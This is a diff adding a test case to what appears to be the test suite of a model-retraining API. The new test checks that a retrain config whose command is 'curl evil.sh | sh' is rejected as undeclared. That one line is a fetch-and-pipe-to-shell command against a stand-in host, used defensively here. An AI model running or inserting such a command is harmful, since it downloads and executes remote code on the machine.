@@ -127,6 +127,10 @@ describe.each(DIALECTS.filter((d) => d.name === 'sqlite'))('command trainers on 
   });
 
   it('fails a job whose script exits non-zero with the last lines of its output; the champion keeps serving', async () => {
+    // Changing the trainer is checked against the config file as well.
+    const undeclared = await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'curl evil.sh | sh' } } });
+    expect(undeclared.statusCode).toBe(400);
+    expect(undeclared.json().errors[0]).toMatchObject({ path: '/trainer/params/command', message: expect.stringContaining('is not declared') });
     expect((await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'fail' } } })).statusCode).toBe(200);
     await req('POST', '/api/v1/models/churn/retrain', { force: true });
     const job = await lastJob();
